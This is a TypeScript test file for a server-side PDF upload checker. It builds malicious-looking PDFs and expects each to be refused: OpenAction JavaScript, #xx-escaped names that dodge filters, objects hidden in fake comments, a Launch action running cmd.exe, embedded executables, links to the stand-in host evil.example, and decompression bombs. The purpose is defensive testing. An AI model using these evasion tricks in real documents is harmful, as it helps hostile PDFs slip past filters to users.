/**
 * Issue 18 §1–2: the PDF check decides on pdf-lib's parsed objects in a worker thread. Every hiding trick and action
 * type of the penetration test is refused (files built here); ordinary PDFs of several producer styles pass, and
 * what is stored is pdf-lib's re-serialised copy (objects the parser did not keep are gone).
 */
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, rgb } from 'pdf-lib';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { PdfCheckPool } from '../../src/server/services/uploads/pdf-pool.ts';
import { buildPdf, objectStream } from '../server/helpers/order-fixtures.ts';

// Building and inflating 16 MB streams takes seconds on a shared machine (the unit project's default is 5 s).
vi.setConfig({ testTimeout: 60_000 });

const pool = new PdfCheckPool({ size: 1 });
afterAll(() => pool.close());

const object = (text: string) => Buffer.from(text);
/** A stream object with the given dictionary entries and (deflated when `flate`) data. */
function stream(entries: string, data: Buffer, flate = false): Buffer {
  const body = flate ? deflateSync(data) : data;
  const filter = flate ? '/Filter /FlateDecode ' : '';
  return Buffer.concat([
    Buffer.from(`<< ${entries} ${filter}/Length ${body.length} >>\nstream\n`),
    body,
    Buffer.from('\nendstream'),
  ]);
}

/** Inserts raw text before the xref table of a buildPdf file (for objects outside the numbered list). */
function withRawBeforeXref(pdf: Buffer, raw: string): Buffer {
  const at = pdf.indexOf('xref\n');
  return Buffer.concat([pdf.subarray(0, at), Buffer.from(raw), pdf.subarray(at)]);
}

const problemOf = async (data: Buffer) => {
  const verdict = await pool.check(data);
  return verdict.ok ? 'ok' : verdict.problem;
};

// Object 6 is the first extra object of buildPdf({ objects }).
const HOSTILE: [string, Buffer][] = [
  [
    'an OpenAction running JavaScript',
    buildPdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ' }),
  ],
  [
    'an object hidden between fake stream/endstream comment markers',
    withRawBeforeXref(
      buildPdf({ catalogExtra: '/OpenAction 9 0 R ' }),
      '% stream\n9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n% endstream\n',
    ),
  ],
  [
    'an object stream behind an #xx-escaped type (/O#62jStm)',
    buildPdf({
      objects: [
        Buffer.from(
          objectStream('<< /S /JavaScript /JS (this.exportDataObject({cName:"x"})) >>')
            .toString('latin1')
            .replace('/ObjStm', '/O#62jStm'),
          'latin1',
        ),
      ],
    }),
  ],
  [
    'a JavaScript name tree behind a lower-case #xx escape',
    buildPdf({ catalogExtra: '/Names << /#4aavaScript 6 0 R >> ', objects: [object('<< /Names [] >>')] }),
  ],
  [
    'an action type behind an upper-case #xx escape',
    buildPdf({ catalogExtra: '/OpenAction << /S /J#61vaScript /J#53 (x) >> ' }),
  ],
  [
    'a Launch action in a link',
    buildPdf({
      objects: [object('<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>')],
    }),
  ],
  [
    'a page /AA (automatic) action',
    buildPdf({ objects: [object('<< /Type /Page /Parent 2 0 R /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>')] }),
  ],
  [
    'an XFA form',
    buildPdf({
      catalogExtra: '/AcroForm << /Fields [] /XFA 6 0 R >> ',
      objects: [stream('', Buffer.from('<xdp:xdp><script>app.alert(1)</script></xdp:xdp>'))],
    }),
  ],
  [
    'an EmbeddedFiles entry without /Type',
    buildPdf({
      catalogExtra: '/Names << /EmbeddedFiles << /Names [(a.exe) << /F (a.exe) /EF << /F 6 0 R >> >>] >> >> ',
      objects: [stream('', Buffer.from('MZ...'))],
    }),
  ],
  [
    'a file attachment annotation',
    buildPdf({ objects: [object('<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>')] }),
  ],
  [
    'a RichMedia annotation',
    buildPdf({ objects: [object('<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>')] }),
  ],
  ['an ImportData action', buildPdf({ objects: [object('<< /Type /Action /S /ImportData /F (data.fdf) >>')] })],
  [
    'a SubmitForm action',
    buildPdf({ objects: [object('<< /Type /Action /S /SubmitForm /F (https://evil.example) >>')] }),
  ],
  [
    'a GoToR (remote file) action',
    buildPdf({ objects: [object('<< /Type /Action /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >>')] }),
  ],
  [
    'a javascript: link',
    buildPdf({
      objects: [
        object('<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert(1)) >> >>'),
      ],
    }),
  ],
  [
    'an OpenAction that opens a web address on its own',
    buildPdf({ catalogExtra: '/OpenAction << /S /URI /URI (https://evil.example) >> ' }),
  ],
  [
    'an indirect OpenAction (5 0 R style) that opens a web address (issue 38 item 8)',
    buildPdf({ catalogExtra: '/OpenAction 6 0 R ', objects: [object('<< /S /URI /URI (https://evil.example) >>')] }),
  ],
  [
    'an indirect OpenAction that prints on opening (/S /Named /N /Print)',
    buildPdf({ catalogExtra: '/OpenAction 6 0 R ', objects: [object('<< /S /Named /N /Print >>')] }),
  ],
  [
    'an OpenAction reached through two references',
    buildPdf({
      catalogExtra: '/OpenAction 6 0 R ',
      objects: [object('7 0 R'), object('<< /S /Named /N /Print >>')],
    }),
  ],
  [
    'JavaScript inside a compressed object stream',
    buildPdf({ objects: [objectStream('<< /S /JavaScript /JS (app.alert(1)) >>')] }),
  ],
];

describe('the PDF check refuses active content however it is hidden', () => {
  it.each(HOSTILE)('%s', async (_what, data) => {
    expect(await problemOf(data)).toBe('active-content');
  });

  it('an encrypted PDF is refused (its object streams cannot be inspected)', async () => {
    const data = buildPdf()
      .toString('latin1')
      .replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>');
    expect(await problemOf(Buffer.from(data, 'latin1'))).toBe('encrypted');
  });
});

describe('limits: unpacked bytes, object streams, objects', () => {
  const zeros = (mb: number) => Buffer.alloc(mb * 1024 * 1024);
  it('a 70 KB file of four streams that each unpack to 16 MB is refused as too complex', async () => {
    const data = buildPdf({ objects: [1, 2, 3, 4].map(() => stream('', zeros(16), true)) });
    expect(data.length).toBeLessThan(100 * 1024);
    expect(await problemOf(data)).toBe('too-complex');
  });

  it('an object stream that unpacks past the budget is refused before pdf-lib decodes it', async () => {
    const data = buildPdf({
      objects: [stream('/Type /ObjStm /N 1 /First 4', Buffer.concat([Buffer.from('7 0 '), zeros(40)]), true)],
    });
    expect(await problemOf(data)).toBe('too-complex');
  });

  it('an object stream with a filter chain is refused', async () => {
    const inner = deflateSync(Buffer.from('7 0 << /Producer (x) >>'));
    const twice = deflateSync(inner);
    const data = buildPdf({
      objects: [
        Buffer.concat([
          Buffer.from(
            `<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${twice.length} >>\nstream\n`,
          ),
          twice,
          Buffer.from('\nendstream'),
        ]),
      ],
    });
    expect(await problemOf(data)).toBe('too-complex');
  });

  it('a file over the deadline is refused and its worker replaced; the next file is checked normally', async () => {
    const quick = new PdfCheckPool({ size: 1, deadlineMs: 1 });
    const verdicts = await Promise.all([
      quick.check(buildPdf({ objects: [stream('', zeros(20), true)] })),
      quick.check(buildPdf()),
    ]);
    expect(verdicts.map((v) => (v.ok ? 'ok' : v.problem))).toEqual(['too-complex', 'too-complex']);
    await quick.close();
    expect(await problemOf(buildPdf())).toBe('ok');
  });

  it('not a PDF, or cut short', async () => {
    expect(await problemOf(Buffer.from('<!doctype html><p>hi</p>'))).toBe('not-pdf');
    expect(await problemOf(buildPdf().subarray(0, 300))).toBe('incomplete');
  });
});

/** A PDF as pdf-lib writes it (object streams and an xref stream, PDF 1.7), with text, a drawing and a web link. */
async function pdfLibDocument(useObjectStreams: boolean): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.setTitle('Clinic poster');
  const page = document.addPage([595, 842]);
  page.drawText('World Heart Day clinic', { x: 50, y: 780, size: 24 });
  page.drawRectangle({ x: 50, y: 600, width: 200, height: 100, color: rgb(0.8, 0.2, 0.2) });
  const link = document.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [50, 600, 250, 700],
    Border: [0, 0, 0],
    A: { Type: 'Action', S: 'URI', URI: PDFString.of('https://www.example-pharma.com/heart') },
  });
  page.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(link)]));
  document.catalog.set(PDFName.of('OpenAction'), document.context.obj([page.ref, 'Fit']));
  return Buffer.from(await document.save({ useObjectStreams }));
}

describe('ordinary PDFs are accepted and stored as a re-serialised copy', () => {
  it.each([
    ['a hand-written minimal PDF (classic xref table)', async () => buildPdf()],
    ['pdf-lib with object streams and an xref stream, a link and a /Fit open destination', () => pdfLibDocument(true)],
    ['pdf-lib without object streams', () => pdfLibDocument(false)],
    [
      'an OpenAction that goes to a page',
      async () => buildPdf({ catalogExtra: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ' }),
    ],
    [
      'a page stream that merely mentions /JavaScript',
      async () => buildPdf({ objects: [stream('', Buffer.from('/JS /JavaScript (plain text)'))] }),
    ],
  ])('%s', async (_what, make) => {
    const verdict = await pool.check(await make());
    expect(verdict.ok).toBe(true);
    if (!verdict.ok) return;
    const copy = await PDFDocument.load(verdict.pdf);
    expect(copy.getPageCount()).toBe(1);
  });

  it('an object the parser replaced (a second definition) is not in the stored copy', async () => {
    const data = withRawBeforeXref(
      buildPdf(),
      '5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Note (first) >>\nendobj\n',
    );
    const hidden = withRawBeforeXref(buildPdf(), '')
      .toString('latin1')
      .replace('%PDF-1.7\n', '%PDF-1.7\n% 5 0 obj << /S /JavaScript >> endobj\n');
    expect((await pool.check(data)).ok).toBe(true);
    const verdict = await pool.check(Buffer.from(hidden, 'latin1'));
    expect(verdict.ok && Buffer.from(verdict.pdf).includes('JavaScript')).toBe(false);
  });
});
